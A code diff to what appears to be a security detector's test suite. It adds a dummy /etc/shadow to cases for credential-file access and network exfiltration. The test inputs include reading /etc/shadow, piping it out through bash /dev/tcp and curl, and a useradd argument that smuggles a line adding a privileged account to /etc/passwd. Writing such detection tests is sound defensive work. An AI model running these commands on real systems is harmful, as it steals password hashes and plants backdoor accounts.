@@ -37,10 +37,16 @@ def become(uid):
     os.setresuid(uid, uid, uid)
 
 
+def shadow(stage):
+    """Nobody's hashes are read."""
+    stage.over("/etc", files=[("shadow", "root:*:1::::::\n")])
+
+
 # account file access
 
 @case("account file access", "hashes read")
-def shadow_read(_):
+def shadow_read(stage):
+    shadow(stage)
     run("/bin/cat", "/etc/shadow")
 
 
@@ -58,7 +64,7 @@ def passwd_replaced(stage):
 
 @near("account file access")
 def passwd_read(stage):
-    stage.over("/etc")
+    shadow(stage)
     stage.over("/usr", programs=[("sbin/useradd", SH), ("sbin/unix_chkpwd", "/bin/cat")])
     run("/bin/cat", "/etc/passwd")
     run("/usr/sbin/useradd", "-c", "echo x::1:1::/: >>/etc/passwd")
@@ -168,6 +174,7 @@ def keys_of_logind(stage):
 @case("network exfiltration")
 def key_by_curl(stage):
     outside(stage)
+    shadow(stage)
     curl(stage)
     sh("cat /etc/shadow")
     call()
@@ -176,12 +183,14 @@ def key_by_curl(stage):
 @case("network exfiltration")
 def key_by_bash(stage):
     outside(stage)
+    shadow(stage)
     run(BASH, "-c", "cat /etc/shadow; " + DEV_TCP % 443)
 
 
 @near("network exfiltration")
 def curl_at_home(stage):
     outside(stage)
+    shadow(stage)
     curl(stage)
     call()
     sh("cat /etc/shadow")
